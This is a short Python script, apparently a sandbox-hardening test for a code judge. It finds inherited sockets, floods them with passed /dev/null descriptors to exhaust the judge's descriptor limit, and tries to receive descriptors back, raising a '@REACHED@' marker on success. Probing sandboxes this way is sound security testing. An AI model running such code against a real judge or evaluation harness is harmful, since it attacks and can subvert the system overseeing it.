"""Gives the judge more descriptors than it can hold, and asks it for some."""

import array
import os
import socket

for descriptor in range(3, 4096):
    try:
        judge = socket.socket(fileno=os.dup(descriptor))
    except OSError:
        continue
    null = [os.open("/dev/null", os.O_RDONLY) for _ in range(64)]
    for _ in range(16):
        try:
            judge.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", null))])
        except OSError:
            break
    judge.settimeout(0.5)
    try:
        _, taken, *_ = judge.recvmsg(1 << 16, 1 << 12)
    except OSError:
        continue
    if taken:
        raise ValueError("@REACHED@")
